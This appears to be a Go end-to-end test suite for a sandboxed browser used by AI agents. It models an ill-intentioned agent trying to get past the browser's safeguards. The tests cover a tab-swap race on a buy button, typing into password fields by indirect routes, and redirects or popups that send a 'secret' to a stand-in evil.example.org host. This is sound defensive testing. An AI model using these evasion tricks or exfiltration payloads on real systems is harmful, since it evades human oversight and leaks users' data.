package e2e

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/handlerd/handler/handlerd/browser"
	"github.com/handlerd/handler/handlerd/gateway"
	"github.com/handlerd/handler/policy"
)

// A guarded is the guarded browser over the real Chromium, for one run that is in a turn, as an agent that means harm
// sees it. Pages of the web are those of web, at any host under example.org; app.workspace.invalid is the agent's own.
type guarded struct {
	t        *testing.T
	b        *browser.Browser
	instance gateway.Instance
	worker   browser.Worker // the one that was started last
	web, app *http.ServeMux
	shop     *workshop

	mu     sync.Mutex
	asked  []browser.Question
	answer func(browser.Question) bool
	before func(w browser.Worker, tool, args string) // of each call of playwright-mcp's
}

func newGuarded(t *testing.T, with ...func(*browser.Options)) *guarded {
	t.Helper()
	g := &guarded{t: t, web: http.NewServeMux(), app: http.NewServeMux()}
	server := httptest.NewServer(g.web)
	t.Cleanup(server.Close)
	s := newWorkshop(t, func(o *browser.SandboxOptions) {
		o.Resolver, o.Dialer = exampleNames{}, exampleDialer(server.Listener.Addr().String())
	})
	g.shop = s
	o := browser.Options{
		Launcher: &listening{s, g},
		Policy: func(string) (browser.Policy, bool) {
			return browser.Policy{Agent: "demo", Window: true, Rules: policy.Network{Agent: "demo"}, Network: browser.PublicNetwork("demo")}, true
		},
		Ask: func(_ context.Context, q browser.Question) (bool, error) {
			g.mu.Lock()
			g.asked = append(g.asked, q)
			answer := g.answer
			g.mu.Unlock()
			return q.Visit || answer != nil && answer(q), nil
		},
		Resolve: func(ctx context.Context, host string) ([]netip.Addr, error) {
			return exampleNames{}.LookupNetIP(ctx, "ip", host)
		},
		Hosts: func(string, string) (func(string) http.Handler, func()) {
			return func(host string) http.Handler {
				if host == "app.workspace.invalid" {
					return g.app
				}
				return nil
			}, func() {}
		},
	}
	for _, f := range with {
		f(&o)
	}
	var err error
	if g.b, err = browser.New(o); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := g.b.Close(); err != nil {
			t.Error(err)
		}
	})
	g.b.TurnStarted("w7k2", "s")
	if g.instance, err = g.b.Open(t.Context(), gateway.Caller{Run: "w7k2", Agent: "demo"}); err != nil {
		t.Fatal(err)
	}
	return g
}

// exampleNames resolves all below example.org.
type exampleNames struct{}

func (exampleNames) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if strings.HasSuffix(host, ".example.org") {
		return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil
	}
	return nil, errors.New("no such host")
}

// An exampleDialer is where they all are.
type exampleDialer string

func (d exampleDialer) DialAddr(ctx context.Context, addr netip.AddrPort, check func(netip.AddrPort) error) (net.Conn, error) {
	if err := check(addr); err != nil {
		return nil, err
	}
	return (&net.Dialer{}).DialContext(ctx, "tcp", string(d))
}

// listening tells of every call before playwright-mcp gets it.
type listening struct {
	browser.Launcher
	g *guarded
}

func (l *listening) Launch(ctx context.Context, s browser.WorkerSpec) (browser.Worker, error) {
	w, err := l.Launcher.Launch(ctx, s)
	if err != nil {
		return nil, err
	}
	l.g.worker = w
	return &listened{w, l.g}, nil
}

type listened struct {
	browser.Worker
	g *guarded
}

func (l *listened) Call(ctx context.Context, tool string, args any) (*mcp.CallToolResult, error) {
	l.g.mu.Lock()
	before := l.g.before
	l.g.mu.Unlock()
	if before != nil {
		b, err := json.Marshal(args)
		if err != nil {
			return nil, err
		}
		before(l.Worker, tool, string(b))
	}
	return l.Worker.Call(ctx, tool, args)
}

// page puts a page on a host.
func page(mux *http.ServeMux, at, body string) {
	mux.HandleFunc(at, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><title>t</title>%s", body)
	})
}

// call uses a tool as the agent.
func (g *guarded) call(tool string, args map[string]any) (text string, failed bool) {
	g.t.Helper()
	r := g.result("s", tool, args)
	for _, part := range r.Content {
		if c, ok := part.(mcp.TextContent); ok {
			text += c.Text + "\n"
		}
	}
	return text, r.IsError
}

// result uses a tool as the agent, in one of its sessions.
func (g *guarded) result(session, tool string, args map[string]any) *mcp.CallToolResult {
	g.t.Helper()
	b, err := json.Marshal(args)
	if err != nil {
		g.t.Fatal(err)
	}
	r, err := g.instance.Call(g.t.Context(), gateway.Call{
		Caller: gateway.Caller{Run: "w7k2", Agent: "demo"}, Session: session, Tool: tool, Args: b, Progress: func(float64, float64, string) {},
	})
	if err != nil {
		g.t.Fatalf("%s: %v", tool, err)
	}
	return r
}

// must is call of what has to work.
func (g *guarded) must(tool string, args map[string]any) string {
	g.t.Helper()
	text, failed := g.call(tool, args)
	if failed {
		g.t.Fatalf("%s %v: %s", tool, args, text)
	}
	return text
}

// act reads the page, and uses a tool on the element that a pattern names in it.
func (g *guarded) act(tool, element string, args map[string]any) (text string, failed bool) {
	g.t.Helper()
	all := map[string]any{"target": find(g.t, g.must("browser_snapshot", nil), element+`[^\n]*\[ref=(\w+)\]`)}
	for name, v := range args {
		all[name] = v
	}
	return g.call(tool, all)
}

func (g *guarded) set(f func(g *guarded)) {
	g.mu.Lock()
	defer g.mu.Unlock()
	f(g)
}

// isAction tells whether a call of playwright-mcp's is the action itself.
func isAction(tool, args string) bool {
	return tool == "browser_click" || strings.Contains(args, "handlerTab !==")
}

// TestTabTakesPlace: the agent's own page, on which nothing has to be asked, closes itself between the check of a click and
// the click. The tab that takes its place is a shop's, where the same reference is another button: nothing is bought.
func TestTabTakesPlace(t *testing.T) {
	g := newGuarded(t)
	bought := make(chan struct{}, 1)
	page(g.web, "shop.example.org/{$}", `<button onclick="fetch('/buy')">Place order</button>`)
	g.web.HandleFunc("shop.example.org/buy", func(http.ResponseWriter, *http.Request) { bought <- struct{}{} })
	page(g.app, "/{$}", `<button onclick="window.open('/popup')">Open</button>`)
	page(g.app, "/popup", `<button>Nothing</button><script>fetch('/now').then(() => close())</script>`)
	now := make(chan struct{})
	g.app.HandleFunc("/now", func(_ http.ResponseWriter, r *http.Request) {
		select {
		case <-now:
		case <-r.Context().Done():
		}
	})
	g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/"})
	if text, failed := g.act("browser_click", "Open", nil); failed {
		t.Fatal(text)
	}
	g.must("browser_tabs", map[string]any{"action": "new", "url": "http://shop.example.org/"})
	ref := find(t, g.must("browser_snapshot", nil), `Place order[^\n]*\[ref=(\w+)\]`)
	g.must("browser_tabs", map[string]any{"action": "select", "index": 1})
	if mine := find(t, g.must("browser_snapshot", nil), `Nothing[^\n]*\[ref=(\w+)\]`); mine != ref {
		t.Fatalf("the references are %s and %s: this test shows nothing", mine, ref)
	}
	g.set(func(g *guarded) {
		g.before = func(w browser.Worker, tool, args string) {
			if !isAction(tool, args) {
				return
			}
			close(now)
			g.set(func(g *guarded) { g.before = nil })
			for range 100 { // until the popup is closed
				if tabs, _ := tell(t, w, "browser_tabs", map[string]any{"action": "list"}); !strings.Contains(tabs, "/popup") {
					return
				}
			}
			t.Error("the popup did not close")
		}
	})
	text, failed := g.call("browser_click", map[string]any{"target": ref})
	if !failed || !strings.Contains(text, "F.4") {
		t.Errorf("the click was not refused: %s", text)
	}
	select {
	case <-bought:
		t.Error("it was bought, and nobody was asked")
	case <-time.After(300 * time.Millisecond):
	}
	for _, q := range g.asked {
		if !q.Visit {
			t.Errorf("asked: %+v", q)
		}
	}
}

// passwords gives what the fields of the current page for passwords hold, one after the other.
func (g *guarded) passwords() string {
	g.t.Helper()
	text, failed := tell(g.t, g.worker, "browser_run_code_unsafe", map[string]any{"code": `async (page) => {
		const read = () => (globalThis.closedField ? [globalThis.closedField] : [...document.querySelectorAll('input[type=password]')]).map((x) => x.value).join();
		return (await Promise.all(page.frames().map((f) => f.evaluate(read)))).join('');
	}`})
	if failed {
		g.t.Fatal(text)
	}
	return find(g.t, text, `Result\n"(.*)"`)
}

// TestPasswordsAreNotTyped: whatever way an agent goes about it, and though its person says yes to everything, nothing
// gets into a field for a password (F.5) of a page that means no harm.
func TestPasswordsAreNotTyped(t *testing.T) {
	g := newGuarded(t)
	g.answer = func(browser.Question) bool { return true }
	page(g.web, "login.example.org/{$}", `<h1>Welcome</h1><label>Name <input></label><label>Off <input disabled></label><label>Password <input type=password></label>`)
	page(g.web, "login.example.org/around", `<label>Name <input></label><div role=group aria-label=Around style="width:300px;padding:30px"><input type=password style="width:290px;height:60px"></div>`)
	page(g.web, "steps.example.org/{$}", `<form action="/two"><label>Name <input name=n></label></form>`)
	page(g.web, "steps.example.org/two", `<form><label>Password <input type=password autofocus></label></form>`)
	page(g.web, "becomes.example.org/{$}", `<label>Word <input onfocus="this.type='password'"></label>`)
	page(g.web, "closed.example.org/{$}", `<h1>Log in</h1><x-login></x-login><script>
		const root = document.querySelector('x-login').attachShadow({ mode: 'closed', delegatesFocus: true });
		root.innerHTML = '<input type=password>';
		globalThis.closedField = root.querySelector('input');
	</script>`)
	focusPassword := func() {
		if text, failed := g.act("browser_click", `textbox "Password"`, nil); failed {
			t.Fatal(text)
		}
	}
	for name, attack := range map[string]struct {
		url string
		do  func()
	}{
		"typed on a heading while the password has the focus": {"http://login.example.org/", func() {
			focusPassword()
			g.act("browser_type", `heading "Welcome"`, map[string]any{"text": "hunter2", "slowly": true})
		}},
		"typed on a field that takes no focus": {"http://login.example.org/", func() {
			focusPassword()
			g.act("browser_type", `textbox "Off"`, map[string]any{"text": "hunter2", "slowly": true})
		}},
		"the next page has the focus in its password field": {"http://steps.example.org/", func() {
			g.act("browser_type", `textbox "Name"`, map[string]any{"text": "ada\nhunter2", "slowly": true})
		}},
		"it becomes one when it has the focus": {"http://becomes.example.org/", func() {
			g.act("browser_type", `textbox "Word"`, map[string]any{"text": "hunter2"})
			if got := g.passwords(); got != "" {
				g.t.Errorf("filled in: %q", got)
			}
			g.must("browser_navigate", map[string]any{"url": "http://becomes.example.org/"})
			g.act("browser_type", `textbox "Word"`, map[string]any{"text": "hunter2", "slowly": true})
			if got := g.passwords(); got != "" {
				g.t.Errorf("typed: %q", got)
			}
			g.must("browser_navigate", map[string]any{"url": "http://becomes.example.org/"})
			target := find(t, g.must("browser_snapshot", nil), `textbox "Word"[^\n]*\[ref=(\w+)\]`)
			g.call("browser_fill_form", map[string]any{"fields": []map[string]string{{"target": target, "name": "w", "type": "textbox", "value": "hunter2"}}})
		}},
		"dragged": {"http://login.example.org/", func() {
			g.act("browser_type", `textbox "Name"`, map[string]any{"text": "hunter2"})
			g.must("browser_snapshot", nil)
			g.must("browser_press_key", map[string]any{"key": "Control+a"})
			snapshot := g.must("browser_snapshot", nil)
			g.call("browser_drag", map[string]any{"startTarget": find(t, snapshot, `textbox "Name"[^\n]*\[ref=(\w+)\]`), "endTarget": find(t, snapshot, `textbox "Password"[^\n]*\[ref=(\w+)\]`)})
		}},
		"pasted with the middle button": {"http://login.example.org/", func() {
			g.act("browser_type", `textbox "Name"`, map[string]any{"text": "hunter2"})
			g.must("browser_snapshot", nil)
			g.must("browser_press_key", map[string]any{"key": "Control+a"})
			g.act("browser_click", `textbox "Password"`, map[string]any{"button": "middle"})
		}},
		"dropped on what holds it": {"http://login.example.org/around", func() {
			g.act("browser_type", `textbox "Name"`, map[string]any{"text": "hunter2"})
			g.must("browser_snapshot", nil)
			g.must("browser_press_key", map[string]any{"key": "Control+a"})
			snapshot := g.must("browser_snapshot", nil)
			g.call("browser_drag", map[string]any{"startTarget": find(t, snapshot, `textbox "Name"[^\n]*\[ref=(\w+)\]`), "endTarget": find(t, snapshot, `group "Around"[^\n]*\[ref=(\w+)\]`)})
		}},
		"key by key where nobody sees": {"http://closed.example.org/", func() {
			g.must("browser_press_key", map[string]any{"key": "Tab"})
			g.must("browser_snapshot", nil)
			g.call("browser_press_key", map[string]any{"key": "h"})
			g.act("browser_type", `heading "Log in"`, map[string]any{"text": "unter2", "slowly": true})
		}},
	} {
		t.Run(name, func(t *testing.T) {
			g.t = t
			g.must("browser_navigate", map[string]any{"url": attack.url})
			attack.do()
			if got := g.passwords(); got != "" {
				t.Errorf("the password field holds %q", got)
			}
		})
	}
}

// TestActions: each kind of action does what it says, on a page of the web, with a yes.
func TestActions(t *testing.T) {
	g := newGuarded(t)
	g.answer = func(browser.Question) bool { return true }
	page(g.web, "all.example.org/{$}", `<button onclick="say('clicked')" ondblclick="say('twice')" onmouseenter="say('over')">Press</button>
		<div style="height:20px;overflow:auto" onkeydown="say('scroller ' + event.key)"><p style="height:300px">Long</p></div><button>Between</button>
		<label>Slow <input onkeydown="say('key ' + event.key)"></label><label>Fast <textarea></textarea></label>
		<form onsubmit="say('sent ' + this.q.value); return false"><label>Query <input name=q></label></form>
		<label><input type=checkbox>Agree</label><label>Size <select><option>small<option>large</select></label>
		<div draggable=true ondragstart="event.dataTransfer.setData('text/plain','x')">Cup</div><div role=group aria-label=Table ondragover="event.preventDefault()" ondrop="say('dropped')">Table</div>
		<button onclick="say(confirm('Sure?') ? 'sure' : 'unsure')">Ask</button>
		<label>File <input type=file></label>
		<output></output><script>function say(what) { document.querySelector('output').textContent += what + ';'; }</script>`)
	g.must("browser_navigate", map[string]any{"url": "http://all.example.org/"})
	for _, step := range []struct {
		tool, element string
		args          map[string]any
		says          string
	}{
		{"browser_click", `button "Press"`, nil, "clicked;"},
		{"browser_click", `button "Press"`, map[string]any{"doubleClick": true}, "twice;"},
		{"browser_hover", `button "Press"`, nil, "over;"},
		{"browser_type", `textbox "Slow"`, map[string]any{"text": "ab", "slowly": true}, "key a;key b;"},
		{"browser_type", `textbox "Fast"`, map[string]any{"text": "one\ntwo"}, `one two|one\\ntwo`},
		{"browser_type", `textbox "Query"`, map[string]any{"text": "tea", "submit": true}, "sent tea;"},
		{"browser_type", `textbox "Query"`, map[string]any{"text": "mint", "slowly": true, "submit": true}, "mint;"},
		{"browser_select_option", `combobox "Size"`, map[string]any{"values": []string{"large"}}, `"large" \[selected\]`},
	} {
		if text, failed := g.act(step.tool, step.element, step.args); failed {
			t.Fatalf("%s %s: %s", step.tool, step.element, text)
		}
		find(t, g.must("browser_snapshot", nil), "("+step.says+")")
	}
	snapshot := g.must("browser_snapshot", nil)
	g.must("browser_fill_form", map[string]any{"fields": []map[string]string{
		{"target": find(t, snapshot, `textbox "Query"[^\n]*\[ref=(\w+)\]`), "name": "q", "type": "textbox", "value": "milk"},
		{"target": find(t, snapshot, `checkbox "Agree"[^\n]*\[ref=(\w+)\]`), "name": "agree", "type": "checkbox", "value": "true"},
		{"target": find(t, snapshot, `combobox "Size"[^\n]*\[ref=(\w+)\]`), "name": "size", "type": "combobox", "value": "small"},
	}})
	snapshot = g.must("browser_snapshot", nil)
	find(t, snapshot, `(?s)(milk.*checkbox "Agree" \[checked\].*"small" \[selected\])`)
	g.must("browser_drag", map[string]any{"startTarget": find(t, snapshot, `\[ref=(\w+)\]: Cup`), "endTarget": find(t, snapshot, `group "Table"[^\n]*\[ref=(\w+)\]`)})
	find(t, g.must("browser_snapshot", nil), "(dropped;)")
	if text, failed := g.act("browser_click", `textbox "Slow"`, nil); failed {
		t.Fatal(text)
	}
	g.must("browser_snapshot", nil)
	g.must("browser_press_key", map[string]any{"key": "z"})
	find(t, g.must("browser_snapshot", nil), "(key z;)")
	for range 2 { // to what scrolls, which takes keys too
		g.must("browser_press_key", map[string]any{"key": "Shift+Tab"})
		g.must("browser_snapshot", nil)
	}
	g.must("browser_press_key", map[string]any{"key": "j"})
	find(t, g.must("browser_snapshot", nil), "(scroller j;)")
	if text, failed := g.act("browser_click", `button "Ask"`, nil); failed || !strings.Contains(text, "Sure?") {
		t.Fatal(text)
	}
	g.must("browser_handle_dialog", map[string]any{"accept": true})
	find(t, g.must("browser_snapshot", nil), "( sure;|;sure;)")
	if text, failed := g.act("browser_click", `button "File"`, nil); failed || !strings.Contains(text, "File chooser") {
		t.Fatal(text)
	}
	g.must("browser_file_upload", nil)
}

// TestWorkspaceLeadsNowhere: a page that the agent wrote leads the browser to a public address, with what it knows in it. No
// such request is made, whichever way it goes about it; and pages of the web have their whole network when it is closed.
func TestWorkspaceLeadsNowhere(t *testing.T) {
	g := newGuarded(t)
	g.answer = func(browser.Question) bool { return true }
	var mu sync.Mutex
	seen := map[string]int{}
	hits := func(host string) int {
		mu.Lock()
		defer mu.Unlock()
		return seen[host]
	}
	count := func(host string) {
		mu.Lock()
		defer mu.Unlock()
		seen[host]++
	}
	g.web.HandleFunc("evil.example.org/", func(http.ResponseWriter, *http.Request) { count("evil") })
	g.web.HandleFunc("cdn.example.org/", func(http.ResponseWriter, *http.Request) { count("cdn") })
	page(g.web, "shop.example.org/{$}", `<h1>Shop</h1><img src="http://cdn.example.org/x.png"><img src="http://evil.example.org/warm.png">`)
	const out = `http://evil.example.org/?secret`
	page(g.app, "/script", `<h1>Mine</h1><script>location = '`+out+`'</script>`)
	page(g.app, "/refresh", `<h1>Mine</h1><meta http-equiv=refresh content="0;url=`+out+`">`)
	page(g.app, "/popup", `<button onclick="window.open('`+out+`')">Open</button>`)
	page(g.app, "/blank", `<button onclick="const w = window.open('about:blank'); w.setInterval('location = \''+'`+out+`'+'\'', 2000); location = 'http://shop.example.org/'">Open</button>`)
	page(g.app, "/link", `<a href="http://shop.example.org/">To the shop</a>`)
	g.app.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, out, http.StatusFound) })

	g.must("browser_navigate", map[string]any{"url": "http://shop.example.org/"})
	if hits("cdn") != 1 || hits("evil") != 1 {
		t.Fatalf("a page of the web does not load what it wants: %v", seen)
	}
	for _, at := range []string{"script", "refresh", "redirect"} {
		g.call("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/" + at})
		g.call("browser_wait_for", map[string]any{"time": 1})
	}
	for _, at := range []string{"popup", "blank"} {
		g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/" + at})
		if text, failed := g.act("browser_click", `button "Open"`, nil); failed {
			t.Fatal(text)
		}
		g.call("browser_snapshot", nil)
		g.call("browser_wait_for", map[string]any{"time": 3})
	}
	if hits("evil") != 1 {
		t.Errorf("the workspace's pages led the browser away %d times", hits("evil")-1)
	}
	for range 4 { // all but one
		g.call("browser_tabs", map[string]any{"action": "close", "index": 1})
	}
	g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/link"})
	if text, failed := g.act("browser_click", `link "To the shop"`, nil); failed || !strings.Contains(text, "shop.example.org") {
		t.Error(text)
	}
	find(t, g.must("browser_snapshot", nil), "(Shop)")
	before := hits("cdn")
	g.must("browser_navigate", map[string]any{"url": "http://app.workspace.invalid/link"})
	if text := g.must("browser_navigate", map[string]any{"url": "http://shop.example.org/"}); strings.Contains(text, "While a page of the workspace is open") {
		t.Error(text)
	}
	if hits("cdn") == before {
		t.Error("the shop's pictures were not loaded after the workspace's page was left")
	}
}
